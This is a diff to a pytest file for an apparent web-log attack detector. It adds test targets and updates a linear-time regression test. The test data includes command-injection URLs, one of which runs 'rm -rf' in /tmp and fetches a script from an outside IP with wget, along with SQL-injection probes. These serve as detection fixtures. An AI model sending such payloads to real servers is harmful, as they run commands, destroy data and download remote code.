@@ -337,7 +337,7 @@ def test_the_sql_server_s_own_variables_asked_for_are_sqli(target):
 
 
 @pytest.mark.parametrize("target", [
-    "/?x=`id`", "/?host=127.0.0.1%0Aid", "/?ip=1%0auname%20-a",
+    "/?x=`id`", "/?host=127.0.0.1%0Aid", "/?ip=1%0auname%20-a", "/?ip=1;%0a%0a%20%0aid",
     "/cgi-bin/;cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://203.0.113.9/x.sh",
 ])
 def test_a_command_between_backticks_after_a_newline_or_before_ifs_is_rce(target):
@@ -380,12 +380,14 @@ def test_nginx_and_apache_lines_with_an_escaped_quote_are_sql_injection(tmp_path
 
 @pytest.mark.parametrize("unit", ["union/**/ ", "union/*", "'/*!1*/", "/wp-admin/", "/.well-known/",
                                   "/wp-includes/", "/wp-content/uploads/", "file=http://a",
-                                  "\\x22\\"])
+                                  "\\x22\\", "%0a"])
 def test_a_hostile_target_is_read_in_linear_time(unit):
     """A target as long as the longest line kept (1 MiB), repeating one pattern's
     beginning, took minutes to an hour with patterns that searched again from each
     repeat (an 8 KiB one, what nginx accepts, 52 ms against 7 us for a normal target);
-    now each pattern reads it once. A probe hidden in comments still matches."""
+    now each pattern reads it once: a run of encoded newlines, each a command separator
+    and a space after the one before, took 2.6 s for 64 KiB. A probe hidden in comments
+    still matches."""
     with within(20, "reading the target"):
         patterns.target_categories((unit * (weblog.MAX_LINE // len(unit))).encode())
     assert "sqli" in patterns.target_categories(b"/?id=-1+union/*!50000*/select+1,2")
